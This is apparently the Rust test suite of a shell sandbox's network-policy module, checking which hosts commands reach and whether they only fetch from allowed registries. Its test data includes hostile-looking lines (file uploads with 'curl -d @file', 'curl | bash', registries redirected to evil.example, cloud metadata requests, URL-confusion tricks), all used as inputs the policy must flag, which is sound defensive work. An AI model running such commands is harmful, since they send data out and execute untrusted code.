use super::*;
use crate::network::HostRules;
use crate::network::NetworkFacts;
use crate::network::{Ports, Protocol};
use crate::policy::{Policy, Profile, corpus};
use guarda_shell::script::Dialect;

fn facts() -> NetworkFacts {
    let remote = |name: &str, url: &str| (name.to_owned(), url.to_owned());
    NetworkFacts {
        remotes: vec![
            remote("origin", "git@git.example:a/b.git"),
            remote("fork", "https://ana:pw@fork.example/b"),
        ],
        moved: vec![remote("npm", "~/.npmrc")],
        ..NetworkFacts::default()
    }
}

#[test]
fn what_the_configuration_denies_is_taken_out_and_named() {
    let script =
        guarda_shell::read("curl https://a.example https://b.c.example; pip install x", Dialect::Bash);
    let mut situation = corpus::situation(&script);
    situation.network.denied =
        ["a.example", "*.c.example", "pypi.org"].map(|host| host.parse().unwrap()).into();
    let plan = NetworkPlan::of(&script.unwrap(), &situation);
    let hosts: Vec<String> = plan.hosts.iter().map(|rule| rule.host.to_string()).collect();
    assert_eq!(hosts, ["files.pythonhosted.org"]);
    let denied: Vec<&str> = plan
        .unusual
        .iter()
        .filter_map(|remark| if let Remark::Denied { host } = remark { Some(host.as_str()) } else { None })
        .collect();
    assert_eq!(denied, ["a.example", "b.c.example", "pypi.org"]);
}

fn plan(line: &str) -> NetworkPlan {
    let script = guarda_shell::read(line, Dialect::Bash);
    let mut situation = corpus::situation(&script);
    situation.network = facts();
    NetworkPlan::of(&script.unwrap(), &situation)
}

/// The hosts of a plan as `host:port,port`, without those of the tables.
fn hosts(rules: &HostRules) -> Vec<String> {
    let said = |rule: &HostRule| {
        let ports =
            Vec::from(rule.ports.clone()).iter().map(ToString::to_string).collect::<Vec<_>>().join(",");
        let private = if rule.private { "!" } else { "" };
        format!("{private}{}:{ports}", rule.host)
    };
    rules.iter().filter(|rule| !matches!(rule.why, Why::Tool { .. })).map(said).collect()
}

/// What a line wanted when it was tried is granted exactly, and to no cloud's credentials.
#[test]
fn what_a_held_back_run_wanted_belongs_to_the_plan() {
    for (host, port, granted) in [
        ("127.0.0.1", Some(5432), &["!localhost:5432"][..]),
        ("::1", Some(3000), &["!localhost:3000"]),
        ("127.0.0.2", Some(53), &["!127.0.0.2:53"]),
        ("db.example.org", None, &["db.example.org:"]),
        ("203.0.113.7", Some(443), &["!203.0.113.7:443"]),
        ("169.254.169.254", Some(80), &[]),
        ("denied.example", None, &[]),
    ] {
        let script = guarda_shell::read("python3 app.py", Dialect::Bash);
        let mut situation = corpus::situation(&script);
        situation.network.denied = vec!["denied.example".parse().unwrap()];
        situation.network.tried = vec![(Host::parse(host).unwrap(), port)];
        let plan = NetworkPlan::of(&script.unwrap(), &situation);
        assert_eq!(hosts(&plan.hosts), granted, "{host}");
        assert!(plan.here().is_empty(), "{host}: the words do not name this machine");
    }
}

#[test]
fn words_name_hosts() {
    for (line, wanted) in [
        ("curl https://example.org/x?token=y", &["example.org:443"][..]),
        ("curl -sSL -o out.html http://Example.ORG.", &["example.org:80,443"]),
        ("curl example.org/x", &["example.org:80,443"]),
        ("curl --url https://a.example", &["a.example:443"]),
        (
            "curl https://a.example?x=y https://b.example/$X https://c.example$X",
            &["a.example:443", "b.example:443"],
        ),
        ("curl https://ana:pw@a.example:8443/", &["a.example:8443"]),
        ("curl localhost:3000/health", &["!localhost:3000"]),
        ("curl http://127.1:3000", &["!127.0.0.1:3000"]),
        ("curl http://2130706433/", &["!127.0.0.1:80,443"]),
        ("curl http://[::1]:8080/", &["!::1:8080"]),
        ("curl http://169.254.169.254/latest", &["!169.254.169.254:80,443"]),
        ("curl 'https://good.example\\@evil.example/'", &[]),
        ("curl https://a@good.example@evil.example/", &[]),
        ("curl -d @f -H 'A: b' https://a.example", &["a.example:443"]),
        ("wget -O x -P y https://a.example/z", &["a.example:443"]),
        ("git clone https://github.com/a/b", &["github.com:443"]),
        ("git clone git@github.com:a/b.git", &["github.com:22"]),
        ("git clone ssh://git@github.com:2222/a/b", &["github.com:2222"]),
        ("git clone git://a.example/b", &["a.example:9418"]),
        ("git clone ../b", &[]),
        ("git fetch", &["git.example:22", "fork.example:443"]),
        ("git pull fork main", &["fork.example:443"]),
        ("git push origin HEAD:main", &["git.example:22"]),
        ("git -C /x push", &["git.example:22", "fork.example:443"]),
        ("git push -u origin main", &["git.example:22"]),
        ("git pull https://a.example/b main", &["a.example:443"]),
        ("git submodule update", &["git.example:22", "fork.example:443"]),
        ("git log", &[]),
        ("ssh -p 2222 -i key ana@box.example ls", &["box.example:2222"]),
        ("ssh box.example curl https://inner.example", &["box.example:22"]),
        ("scp -P 2222 a ana@box.example:b", &["box.example:2222"]),
        ("rsync -a a/ box.example:b", &["box.example:22"]),
        ("rsync rsync://a.example/x .", &["a.example:873"]),
        ("rsync a.example::x .", &["a.example:873"]),
        ("nc a.example 25", &["a.example:25"]),
        ("telnet a.example 80", &["a.example:80"]),
        ("openssl s_client -connect a.example:443 -servername b.example", &["a.example:443"]),
        ("psql -h db.example -p 5433 -c 'select 1'", &["db.example:5433"]),
        ("psql --host=db.example x", &["db.example:5432"]),
        ("psql postgres://ana:pw@db.example/x", &["db.example:5432"]),
        ("mysql -hdb.example x", &["db.example:3306"]),
        ("redis-cli -h localhost", &["!localhost:6379"]),
        ("pip install https://a.example/x.whl", &["a.example:443"]),
        ("pip install git+https://a.example/x", &["a.example:443"]),
        ("timeout 5 curl https://a.example", &["a.example:443"]),
        ("sh -c 'curl https://a.example'", &["a.example:443"]),
        ("./deploy.sh --to=https://a.example https://b.example", &["a.example:443", "b.example:443"]),
        ("frobnicate file:///x a.example", &[]),
        ("docker run x curl https://a.example", &[]),
        ("ls", &[]),
    ] {
        assert_eq!(hosts(&plan(line).hosts), wanted, "{line}: {:?}", plan(line));
    }
}

#[test]
fn tools_bring_their_own_hosts() {
    let own = |line: &str| {
        let plan = plan(line);
        plan.hosts.iter().map(|rule| rule.host.to_string()).collect::<Vec<_>>()
    };
    assert_eq!(own("pip install requests"), ["pypi.org", "files.pythonhosted.org"]);
    assert_eq!(own("python3 -m pip install requests"), ["pypi.org", "files.pythonhosted.org"]);
    assert_eq!(own("cargo fetch"), ["index.crates.io", "static.crates.io", "crates.io"]);
    assert_eq!(own("pip --version"), [""; 0]);
    assert_eq!(own("python3 x.py"), [""; 0]);
    assert_eq!(plan("ping a.example").whole[0].program, "ping");
    assert!(plan("curl https://a.example").whole.is_empty());
    assert_eq!(plan("ollama list").hosts.loopback_ports(), [11434]);
    assert_eq!(plan("curl localhost:3000 127.0.0.1:8000").hosts.loopback_ports(), [3000, 8000]);
}

#[test]
fn what_leads_elsewhere_is_named() {
    let moved = |tool: &str, by: &str| Remark::Moved { tool: tool.to_owned(), by: by.to_owned() };
    for (line, remarks, found) in [
        (
            "pip install -i https://evil.example/simple x",
            vec![moved("pypi", "-i")],
            &["evil.example:443"][..],
        ),
        (
            "pip install --extra-index-url=https://evil.example x",
            vec![moved("pypi", "--extra-index-url")],
            &["evil.example:443"],
        ),
        (
            "PIP_INDEX_URL=https://evil.example pip install x",
            vec![moved("pypi", "PIP_INDEX_URL")],
            &["evil.example:443"],
        ),
        ("env GOPROXY=https://evil.example go get x", vec![moved("go", "GOPROXY")], &["evil.example:443"]),
        ("npm install", vec![Remark::File { tool: "npm".to_owned(), file: "~/.npmrc".to_owned() }], &[]),
        (
            "curl -x proxy.example:3128 https://a.example",
            vec![moved("curl", "-x")],
            &["proxy.example:3128", "a.example:443"],
        ),
        ("ssh -J jump.example box.example", vec![moved("ssh", "-J")], &["jump.example:22", "box.example:22"]),
        ("ssh -oProxyCommand=x box.example", vec![moved("ssh", "-o")], &["box.example:22"]),
        ("curl https://$HOST/x", vec![Remark::Unknown { word: "https://$HOST".to_owned() }], &[]),
        ("git clone ext::sh", vec![Remark::Unknown { word: "ext::sh".to_owned() }], &[]),
        ("git clone https://a.example/x", vec![], &["a.example:443"]),
    ] {
        let plan = plan(line);
        assert_eq!(plan.unusual, remarks, "{line}");
        assert_eq!(hosts(&plan.hosts), found, "{line}");
    }
    let looks = plan("curl https://gооgle.com http://169.254.169.254").unusual;
    assert_eq!(looks.len(), 2, "{looks:?}");
}

/// A settings file that only signs in to a tool's own server, or names it, leads nowhere else.
#[test]
fn settings_lead_elsewhere_only_if_they_name_another_server() {
    for (line, settings, elsewhere) in [
        ("npm ci", "//registry.npmjs.org/:_authToken=x\nfund=false\n", false),
        ("npm ci", "registry=https://registry.npmjs.org/\n", false),
        ("npm ci", "registry = \"https://registry.npmjs.org\"\n", false),
        ("npm ci", "npmRegistryServer: \"https://registry.yarnpkg.com\"\n", false),
        ("npm ci", "//x.example/:_authToken=s\n", false),
        ("npm ci", "registry=https://evil.example\n", true),
        ("npm ci", "@mine:registry=https://npm.evil.example/\n", true),
        ("npm ci", "registry=https://registry.npmjs.org@evil.example/\n", true),
        ("npm ci", "registry=https://registry.npmjs.org.evil.example/\n", true),
        ("npm ci", "registry=https:/evil.example ;//registry.npmjs.org\n", true),
        ("npm ci", "registry=https://registry.npmjs.org/${X}\n", true),
        ("npm ci", "registry=http://registry.npmjs.org/\n", true),
        ("npm ci", "//registry.npmjs.org/:registry=https://evil.example\n", true),
        ("pip install x", "[global]\nindex-url = https://pypi.org/simple\n", false),
        (
            "pip install x",
            "[global]\nextra-index-url = https://pypi.org/simple\n  https://evil.example/\n",
            true,
        ),
        ("pip install x", "[global]\nindex-url =\n  https://evil.example/\n", true),
        ("pip install x", "[project.urls]\n  home = \"https://a.example\"\n", false),
        ("cargo build", "[source.crates-io]\nreplace-with = 'x'\n", true),
        ("git pull", "[url \"https://a\"]\n\tinsteadOf = b\n", true),
        ("npm ci", "omit-lockfile-registry-resolved=true\n", false),
        ("npm ci", "registry=https://evil.example/?x=true\n", true),
        ("pip install x", "[global]\nindex-url = https://evil.example/?x=false\n", true),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash).unwrap();
        let found = kept(&script).iter().any(|kept| kept.leads_elsewhere(settings));
        assert_eq!(found, elsewhere, "{line}: {settings}");
    }
}

/// A copy within this machine needs no network, whatever program makes it.
#[test]
fn a_copy_needs_the_network_only_if_it_names_a_host() {
    for (line, needed) in [
        ("rsync -a sub/ mirror/", false),
        ("rsync -a --delete sub/ mirror/ && ls mirror", false),
        ("scp a.txt b.txt", false),
        ("rsync -a sub/ host:mirror/", true),
        ("rsync rsync://host/x y", true),
        ("rsync --files-from=host:list . y", true),
        ("rsync -a $FROM to/", true),
        ("scp a.txt ana@host:", true),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash).unwrap();
        assert_eq!(needs_network(&script, &Situation::default()), needed, "{line}");
    }
}

#[test]
fn each_run_has_its_own() {
    let line = "curl https://a.example && pip install x";
    let script = guarda_shell::read(line, Dialect::Bash).unwrap();
    let situation = corpus::situation(&Ok(script.clone()));
    let plan = NetworkPlan::of(&script, &situation);
    let of = |index| plan.part(|at| at == index).hosts.iter().count();
    assert_eq!((of(0), of(1)), (1, 2));
}

#[test]
fn configuration_adds_hosts() {
    let script = guarda_shell::read("pip install x; ls; ./deploy", Dialect::Bash);
    let mut situation = corpus::situation(&script);
    let rule = |host: &str| HostRule {
        host: host.parse().unwrap(),
        ports: crate::network::Ports::Of(vec![443]),
        protocol: crate::network::Protocol::Web,
        why: Why::Policy { entry: host.to_owned() },
        private: false,
    };
    situation.network.allowed = vec![
        (None, rule("any.example")),
        (Some("pip".to_owned()), rule("pip.example")),
        (Some("deploy".to_owned()), rule("deploy.example")),
    ];
    let script = script.unwrap();
    let plan = NetworkPlan::of(&script, &situation);
    let of = |index| hosts(&plan.part(|at| at == index).hosts);
    assert_eq!(of(0), ["any.example:443", "pip.example:443"]);
    assert_eq!(of(1), [""; 0]);
    assert_eq!(of(2), ["deploy.example:443"]);
}

#[test]
fn every_entry_of_the_table_can_be_used() {
    for tool in crate::catalogue::tools::TOOLS {
        let reached = !tool.runs.is_empty() || !tool.hosts.is_empty();
        assert!(!tool.name.is_empty() && reached, "{}", tool.name);
        assert_eq!(tool.rules().count(), tool.hosts.len(), "{}", tool.name);
    }
    assert!(packages().any(|name| name == "pypi"));
}

fn workspace() -> Policy {
    Policy::builtin(Profile::Workspace).unwrap()
}

#[test]
fn what_only_fetches_allowed_packages() {
    let fetches = |script: &Script, situation: &Situation| {
        only_fetches(&workspace(), script, situation) && NetworkPlan::of(script, situation).unusual.is_empty()
    };
    for (line, only) in [
        ("npm ci", true),
        ("npm install left-pad && pip install -r requirements.txt", true),
        ("cd sub && npm install", true),
        ("timeout 60 npm ci", true),
        ("timeout 60 pip install x || true", true),
        ("mkdir -p d && pip install x", true),
        ("npm install && ./x", true),
        ("npm install 2>&1 | tail -5", true),
        ("python3 -m pip install -q x && python3 -c 'import x'", true),
        ("npx tsc --noEmit", true),
        ("npm view left-pad version", true),
        ("npm publish", false),
        ("npm ci && npm publish", false),
        ("npm unpublish x", false),
        ("npm run build", false),
        ("npm install -g x", false),
        ("npm install --global=true x", false),
        ("pip install --user x", false),
        ("pip install --targ /x x", false),
        ("pip install $OPTIONS", false),
        ("pip install -$OPTIONS x", false),
        ("pip install git+https://evil.example/x", false),
        ("pip install https://evil.example/x.whl", false),
        ("npm ci && curl https://evil.example", false),
        ("npm ci && git push", false),
        ("npm ci && echo https://evil.example", true),
        ("npm ci && ./x https://evil.example", false),
        ("ssh host npm ci", false),
        ("docker run x npm ci", false),
        ("npm ci && ping evil.example", false),
        ("npm install --registry https://evil.example", false),
        ("npm install --registry https://registry.npmjs.org/ x", true),
        ("pip install x --index-url https://pypi.org/simple", true),
        ("pip install torch --index-url https://download.pytorch.org/whl/cpu", false),
        ("pip install x --index-url http://pypi.org/simple", false),
        ("pip install x --index-url https://pypi.org.evil.example/simple", false),
        ("pip install x --index-url https://pypi.org@evil.example/simple", false),
        ("pip install x -i $INDEX", false),
        ("PIP_INDEX_URL=https://evil.example pip install x", false),
        ("cargo build", false),
        ("cargo publish", false),
        ("cd sub", false),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        situation.network.packages = vec!["npm".to_owned(), "pypi".to_owned()];
        let script = script.unwrap();
        assert_eq!(fetches(&script, &situation), only, "{line}");
        situation.network.moved = vec![("npm".to_owned(), ".npmrc".to_owned())];
        let only = only && !line.starts_with("np") && !line.contains("npm ");
        assert_eq!(fetches(&script, &situation), only, "{line}");
        situation.network.packages.clear();
        assert!(!fetches(&script, &situation), "{line}");
    }
}

/// `[network] hosts` lets a line take text from a host, and send nothing to it.
#[test]
fn what_only_takes_from_allowed_hosts() {
    for (line, only) in [
        ("curl -fsSL https://api.example.org/x", true),
        ("curl -s https://api.example.org/x | jq .", true),
        ("curl -sI https://api.example.org/x -o out", true),
        ("wget -qO- https://api.example.org/x", true),
        ("curl --head https://api.example.org && curl https://any.corp.example:8443/", true),
        ("curl https://other.example/x", false),
        ("curl https://api.example.org/x https://other.example/x", false),
        ("curl http://api.example.org/x", false),
        ("curl https://api.example.org:8443/x", false),
        ("curl https://$HOST/x", false),
        ("curl -d @file https://api.example.org/x", false),
        ("curl -sd @file https://api.example.org/x", false),
        ("curl --data-raw x https://api.example.org/x", false),
        ("curl --dat x https://api.example.org/x", false),
        ("curl -XDELETE https://api.example.org/x", false),
        ("curl -T file https://api.example.org/x", false),
        ("curl -F a=@b https://api.example.org/x", false),
        ("curl -K options https://api.example.org/x", false),
        ("curl --unix-socket /run/docker.sock https://api.example.org/x", false),
        ("curl -u a:b https://api.example.org/x", false),
        ("curl -x evil.example https://api.example.org/x", false),
        ("wget --post-file=x https://api.example.org/x", false),
        ("ssh api.example.org", false),
        ("scp x api.example.org:", false),
        ("git push https://api.example.org/x", false),
        ("curl https://only.example/", false),
        ("wget https://only.example/", true),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        let rule = |host: &str, port: u16| HostRule {
            host: host.parse().unwrap(),
            ports: Ports::Of(vec![port]),
            protocol: Protocol::Web,
            why: Why::Policy { entry: host.to_owned() },
            private: false,
        };
        situation.network.allowed = vec![
            (None, rule("api.example.org", 443)),
            (None, rule("*.corp.example", 8443)),
            (Some("wget".to_owned()), rule("only.example", 443)),
        ];
        let script = script.unwrap();
        let usual = NetworkPlan::of(&script, &situation).unusual.is_empty();
        assert_eq!(usual && only_fetches(&workspace(), &script, &situation), only, "{line}");
    }
}

/// `"localhost"` in `[network] allow` lets curl and wget take text from servers of this machine.
#[test]
fn what_only_takes_from_this_machine() {
    for (line, only) in [
        ("curl -s http://localhost:3000/health", true),
        ("curl -s 127.0.0.1:8000/api | jq .", true),
        ("curl -I http://[::1]:8080", true),
        ("wget -qO- http://localhost:9090/metrics | head", true),
        ("until curl -sf http://localhost:3000/ >/dev/null; do sleep 1; done; echo up", true),
        ("curl -X POST http://localhost:8000/items -d x=1", false),
        ("curl --unix-socket /run/docker.sock http://localhost/info", false),
        ("curl http://localhost:3000 https://example.org", false),
        ("curl http://192.168.0.1/", false),
        ("curl http://169.254.169.254/latest", false),
        ("curl http://localhost.example/", false),
        ("curl -x localhost:8080 https://example.org/", false),
        ("nc localhost 6379", false),
        ("psql -h localhost", false),
        // A program beside it would reach the server, too, and may do more than take text.
        ("curl localhost:3000/x && cat notes && mkdir -p out && rm -f out/x", true),
        ("cd sub && for i in 1 2 3; do curl -s localhost:3000 && break; sleep 1; done", true),
        ("code=$(curl -s -o /dev/null -w '%{http_code}' localhost:3000); echo \"$code\"", true),
        ("curl localhost:5432; ./x", false),
        ("curl localhost:5432 | python3 -c 'import socket'", false),
        ("curl localhost:5432; make", false),
        ("curl localhost:5432 | awk 'BEGIN{system(\"x\")}'", false),
        ("curl localhost:5432; find . -exec ./x {} +", false),
        ("curl localhost:5432; LD_PRELOAD=./x.so rm y", false),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        let script = script.unwrap();
        let fetches = |situation: &Situation| {
            only_fetches(&workspace(), &script, situation) && NetworkPlan::of(&script, situation).is_usual()
        };
        assert!(!fetches(&situation), "{line}");
        situation.network.packages = vec!["localhost".to_owned()];
        assert_eq!(fetches(&situation), only, "{line}");
    }
}

/// What needs no other machine by its words is held back like any other line, and nobody hears of a network.
#[test]
fn what_its_words_keep_on_this_machine() {
    for (line, needs) in [
        ("git push ../x.git", false),
        ("git push ../x.git main", false),
        // It links the files of the other repository, which an overlay cannot.
        ("git clone ../x", true),
        ("git clone --no-hardlinks ../x", false),
        ("git clone --shared x y", false),
        ("git clone --depth 1 -b main file:///srv/x y", false),
        ("git -C sub fetch /srv/x main", false),
        ("git pull file:///srv/x", false),
        ("git ls-remote .", false),
        ("git push origin", true),
        ("git push", true),
        ("git fetch backup", true),
        ("git clone host:x", true),
        ("git clone https://example.org/x", true),
        ("git clone --upload-pack ./x ../y", true),
        ("git fetch $X", true),
        ("git clone $X/y", true),
        ("rsync -a --delete src/ ~/Documents/", false),
        ("rsync -a src/ host:/srv", true),
        ("rsync -a src/ $X", true),
        ("pnpm -r build", false),
        ("yarn lint --fix", false),
        ("bun dev", false),
        ("pnpm add x", true),
        ("yarn install", true),
        ("mvn -q test", true),
        // A server of its own.
        ("node x.js & sleep 1; curl -s localhost:3000", false),
        ("node x.js & curl -X POST localhost:3000 -d a=1; kill $!", false),
        ("node x.js & psql -h localhost", false),
        ("node x.js & curl https://example.org", true),
        ("node x.js & curl localhost:3000; git push", true),
        ("node x.js; curl -s localhost:3000", true),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let situation = corpus::situation(&script);
        assert_eq!(needs_network(&script.unwrap(), &situation), needs, "{line}");
    }
}

/// A host that the configuration allows never turns what stays on this machine into what leaves it.
#[test]
fn what_stays_here_or_goes_where_it_may() {
    for (line, stays) in [
        ("curl localhost:3000", true),
        ("curl https://api.example.org/x", true),
        ("curl https://api.example.org/x localhost:3000", true),
        ("curl https://other.example/x", false),
        ("curl https://api.example.org:444/x", false),
        ("curl", false),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        let (host, why) = ("api.example.org".parse().unwrap(), Why::Policy { entry: String::new() });
        let rule =
            HostRule { host, ports: Ports::Of(vec![443]), protocol: Protocol::Web, why, private: false };
        situation.network.allowed = vec![(None, rule)];
        assert_eq!(NetworkPlan::of(&script.unwrap(), &situation).here() == [0], stays, "{line}");
    }
}

/// Text and repositories are taken from where everybody keeps code and from registries, and nothing is sent there.
#[test]
fn what_only_takes_from_where_everybody_keeps_code() {
    for (line, only) in [
        ("git clone https://github.com/a/b", true),
        ("git clone --depth 1 https://gitlab.com/a/b /tmp/b && ls /tmp/b", true),
        ("git fetch", true),
        ("git pull --rebase origin main", true),
        ("git ls-remote https://codeberg.org/a/b", true),
        ("curl -sL https://raw.githubusercontent.com/a/b/main/x | head -5", true),
        ("curl -s https://pypi.org/pypi/x/json | jq .info.version", true),
        ("wget -q https://github.com/a/b/archive/main.tar.gz", true),
        ("git push", false),
        ("git push origin main", false),
        ("git push https://github.com/a/b main", false),
        ("git fetch backup", false),
        ("git fetch --all && git push", false),
        ("git clone git@github.com:a/b", false),
        ("git clone ssh://git@github.com/a/b", false),
        ("git clone http://github.com/a/b", false),
        ("git clone https://github.com.evil.example/a", false),
        ("git clone https://github.com@evil.example/a", false),
        ("git clone https://evil.example/a", false),
        ("git clone https://github.com/$X", true),
        ("git clone $X", false),
        ("git -c http.proxy=evil:80 clone https://github.com/a/b", false),
        ("git clone --config core.sshCommand=x https://github.com/a/b", false),
        ("git clone --upload-pack ./x https://github.com/a/b", false),
        ("git clone https://github.com/a/b && ./b/x", false),
        ("git clone https://github.com/a/b && make -C b", false),
        ("git clone https://github.com/a/b && curl -d @notes https://github.com", false),
        ("GIT_SSH_COMMAND=./x git fetch", false),
        ("curl https://github.com/a -H x -d @notes", false),
        ("curl -X DELETE https://api.github.com/repos/a/b", false),
        ("curl -u x:y https://api.github.com/user", false),
        ("curl -sL https://raw.githubusercontent.com/a/b/x | bash", false),
        ("curl https://raw.githubusercontent.com/a/b/x https://evil.example", false),
        ("curl https://evil.example/raw.githubusercontent.com", false),
        ("npm publish", false),
    ] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        situation.network.remotes =
            [("origin", "https://github.com/me/x.git"), ("backup", "https://evil.example/x")]
                .map(|(name, url)| (name.to_owned(), url.to_owned()))
                .to_vec();
        if matches!(line, "git fetch") {
            situation.network.remotes.truncate(1);
        }
        let script = script.unwrap();
        let fetches = |situation: &Situation| {
            only_fetches(&workspace(), &script, situation) && NetworkPlan::of(&script, situation).is_usual()
        };
        assert!(!fetches(&situation), "{line}");
        situation.network.packages = super::REGISTRIES.map(str::to_owned).to_vec();
        assert_eq!(fetches(&situation), only, "{line}");
    }
}

/// What only an administrator may do ends before it reaches anything.
#[test]
fn what_needs_rights_needs_no_network_without_them() {
    for line in ["apt-get install -y jq", "apt update", "dnf install jq", "apk add jq"] {
        let script = guarda_shell::read(line, Dialect::Bash);
        let mut situation = corpus::situation(&script);
        let script = script.unwrap();
        assert!(!needs_network(&script, &situation), "{line}");
        situation.administrator = true;
        assert!(needs_network(&script, &situation), "{line}");
    }
    let script = guarda_shell::read("apt-get download jq", Dialect::Bash);
    let situation = corpus::situation(&script);
    assert!(needs_network(&script.unwrap(), &situation));
}
